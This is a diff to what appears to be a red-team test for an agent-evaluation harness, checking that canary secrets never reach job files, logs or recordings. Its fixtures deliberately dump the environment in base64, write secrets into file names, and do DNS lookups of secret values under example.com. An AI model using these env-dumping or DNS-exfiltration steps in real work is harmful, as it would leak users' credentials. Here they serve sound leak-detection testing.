@@ -6,6 +6,7 @@ import asyncio
 import base64
 import json
 import os
+import re
 import shutil
 import stat
 from collections.abc import Iterator
@@ -22,6 +23,7 @@ from tests.gateway_fakes import fake_provider, streams
 from tests.host_logs import claude_log
 from tests.job_tasks import pier, trials_of
 from tests.redteam import route
+from tests.redteam.places import IMAGE, everywhere
 from tests.trial_runs import TOML, write_task
 from tests.workspaces import stop_all
 
@@ -69,7 +71,8 @@ with open(logs / "session.jsonl", "w") as session, open(kept / "notes.txt", "w")
     for number, value in enumerate(values):
         forms = [value, base64.b64encode(("ab" + value + "\n").encode()).decode(), urllib.parse.quote(value, safe=""),
             urllib.parse.quote_plus(value), json.dumps(value), json.dumps({"text": json.dumps(value)}),
-            base64.urlsafe_b64encode(("x" + value).encode()).decode()]
+            base64.urlsafe_b64encode(("x" + value).encode()).decode(),
+            base64.encodebytes(("y" * 50 + value).encode()).decode()]
         for form in forms:
             print(form)
             print("and an error with", form, file=sys.stderr)
@@ -88,17 +91,23 @@ with open(logs / "session.jsonl", "w") as session, open(kept / "notes.txt", "w")
                 socket.getaddrinfo(value + ".example.com", 80)
             except OSError as error:
                 print(value, error)
-pathlib.Path("/app/done").touch()
 sys.exit("failed with " + " ".join(values))
 """
 
 TEST = """#!/bin/bash
 env
 env | base64 -w0
+env | base64
 env > /logs/verifier/environment.txt
 env > /logs/verifier/name-$VERIFIER_SECRET
-test -e /app/done; echo $((! $?)) > /logs/verifier/reward.txt
+test -e /logs/artifacts/notes.txt; echo $((! $?)) > /logs/verifier/reward.txt
 """
+
+PYTHON = json.dumps([{"type": "bind", "source": "/usr", "target": "/usr", "read_only": True}])
+PLACES = {
+    "local": ["--image", "host"],
+    "docker": ["--env", "docker", "--image", IMAGE, "--mounts", PYTHON],
+}
 
 
 def piece(text: str, **more: object) -> bytes:
@@ -135,7 +144,7 @@ def forms(value: str) -> Iterator[str]:
 
 
 def leaks(root: Path) -> list[str]:
-    """Which file holds which canary, in its bytes, its name or the target of a link."""
+    """Which file holds which canary, in its bytes, its name or the target of a link; also over the ends of lines."""
     found = []
     for path in root.rglob("*"):
         data = str(path.relative_to(root)).encode()
@@ -143,6 +152,7 @@ def leaks(root: Path) -> list[str]:
             data += b"\n" + os.fsencode(path.readlink())
         elif path.is_file():
             data += b"\n" + path.read_bytes()
+        data += re.sub(rb"\\+[rn]|[\r\n]", b"", data)
         for name, value in CANARIES.items():
             found += [f"{path}: {name} as {form}" for form in forms(value) if form.encode() in data]
     return found
@@ -162,29 +172,20 @@ def texts_of(recording: Recording) -> str:
 @route("secrets", "the lines of a private key are indented, or stand in the diff of a file", "each line is removed")
 @route("secrets", "training samples, exported pages and reviews of such a job", "no file that is kept holds one")
 @route("secrets", "another user reads a recording, a trajectory or a log", "only the owner may read them")
-async def test_no_file_of_a_job_holds_a_secret(tmp_path: Path) -> None:
+@everywhere
+async def test_no_file_of_a_job_holds_a_secret(place: str, tmp_path: Path) -> None:
     toml = TOML + '[environment.env]\nTASK_API_KEY = "{TASK_API_KEY}"\nASKED = "${{TEMPLATE}}"\n'.format(**CANARIES)
-    write_task(tmp_path / "tasks" / "one", toml=toml, test=TEST)
+    toml += '[[steps]]\nname = "one"\n[[steps]]\nname = "two"\n[steps.verifier]\nenvironment_mode = "separate"\n'
+    parts = {"instruction.md": "Do it.\n", "tests__test.sh": TEST}
+    steps = {f"steps__{name}__{part}": text for name in ("one", "two") for part, text in parts.items()}
+    write_task(tmp_path / "tasks" / "one", toml=toml, test="", **steps)
     (tmp_path / "agent.py").write_text(AGENT)
     (tmp_path / ".env").write_text(f"FROM_FILE={CANARIES['FROM_FILE']}\nTEMPLATE={CANARIES['TEMPLATE']}\n")
     url = "https://user:{URL_PASSWORD}@host.example/path?access_token={URL_PARAMETER}&x=1".format(**CANARIES)
     given = {name: CANARIES[name] for name in ("SERVICE_TOKEN", "BUILD_NOTE", "ODD_SECRET", "PRIVATE_KEY", "PEM_KEY")}
     given |= {"INDIRECT": "${FROM_FILE}", "REMOTE": url}
     async with fake_provider(echo) as fake:
-        words = [
-            "run",
-            "-p",
-            "tasks",
-            "-m",
-            "openai/m",
-            "--image",
-            "host",
-            "--job-name",
-            "j",
-            "--env-file",
-            ".env",
-            "-y",
-        ]
+        words = ["run", "-p", "tasks", "-m", "openai/m", "--job-name", "j", "--env-file", ".env", "-y", *PLACES[place]]
         words += ["-a", "command", "--ak", "script=agent.py", "--ak", f"command=--api-key {CANARIES['FLAG']}"]
         words += ["--ve", f"VERIFIER_SECRET={CANARIES['VERIFIER_SECRET']}"]
         for name, value in given.items():
@@ -194,10 +195,11 @@ async def test_no_file_of_a_job_holds_a_secret(tmp_path: Path) -> None:
     job = tmp_path / "jobs" / "j"
     (trial,) = trials_of(job)
     asked = b"".join(asked.body for asked in fake.asked)
-    assert json.loads((trial / "result.json").read_text())["verifier_result"]["rewards"] == {"reward": 1}, done.stderr
+    result = json.loads((trial / "result.json").read_text())
+    assert [step["verifier_result"]["rewards"] for step in result["step_results"]] == [{"reward": 1}] * 2, done.stderr
     assert all(json.dumps(given[name])[1:-1].encode() in asked for name in given if name != "INDIRECT")
-    diff = (trial / "changes.diff").read_text()
-    assert "work-0.txt" in diff and "canary" not in diff
+    diffs = [(trial / "steps" / name / "changes.diff").read_text() for name in ("one", "two")]
+    assert all("work-0.txt" in diff and "canary" not in diff for diff in diffs)
     assert leaks(job) == []
     assert leaks(tmp_path / "home") == []
     out = tmp_path / "out"
@@ -214,16 +216,17 @@ async def test_no_file_of_a_job_holds_a_secret(tmp_path: Path) -> None:
     assert leaks(tmp_path / "jobs") == leaks(out) == []
     for text in (done.stdout, done.stderr):
         assert not [name for name, value in CANARIES.items() if value in text]
-    recording = read(trial / "agent" / "recording.jsonl")
-    joined = texts_of(recording) + "".join(
-        json.loads(line)["delta"] for line in (trial / "agent" / "session.jsonl").read_text().splitlines()
-    )
-    assert not [name for name, value in CANARIES.items() if value in joined]
-    assert joined.count(REDACTED) > len(given) * 2
-    assert "logprobs" not in (trial / "agent" / "recording.jsonl").read_text().partition(REDACTED)[2].partition("}")[0]
-    private = [path for path in (*(trial / "agent").rglob("*"), *(trial / "verifier").rglob("*")) if path.is_file()]
-    assert len(private) > 6
-    assert {stat.S_IMODE(path.stat().st_mode) for path in private} == {0o600}
+    for step in (trial / "steps" / "one", trial / "steps" / "two"):
+        joined = texts_of(read(step / "agent" / "recording.jsonl")) + "".join(
+            json.loads(line)["delta"] for line in (step / "agent" / "session.jsonl").read_text().splitlines()
+        )
+        assert not [name for name, value in CANARIES.items() if value in joined]
+        assert joined.count(REDACTED) > len(given) * 2
+        recorded = (step / "agent" / "recording.jsonl").read_text()
+        assert "logprobs" not in recorded.partition(REDACTED)[2].partition("}")[0]
+        private = [path for name in ("agent", "verifier") for path in (step / name).rglob("*") if path.is_file()]
+        assert len(private) > 6
+        assert {stat.S_IMODE(path.stat().st_mode) for path in private} == {0o600}
 
 
 WORKSPACE_TEST = """#!/bin/bash
